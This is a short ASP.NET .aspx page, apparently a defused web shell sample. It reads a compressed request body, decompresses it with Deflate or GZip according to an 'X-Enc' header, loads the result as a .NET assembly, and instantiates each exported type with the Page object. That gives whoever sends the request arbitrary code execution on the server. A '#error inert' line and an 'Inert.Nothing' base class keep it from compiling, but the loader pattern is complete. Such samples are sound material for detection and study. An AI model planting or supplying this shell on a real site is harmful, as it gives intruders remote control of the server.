<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.IO.Compression" %>
<%
#error inert
Stream src = Request.Headers["X-Enc"] == "d"
    ? (Stream)new DeflateStream(Request.InputStream, CompressionMode.Decompress)
    : new GZipStream(Request.InputStream, CompressionMode.Decompress);
var ms = new MemoryStream();
src.CopyTo(ms);
var mod = AppDomain.CurrentDomain.Load(ms.ToArray());
foreach (var t in mod.GetExportedTypes())
    Activator.CreateInstance(t, new object[] { Page });
%>
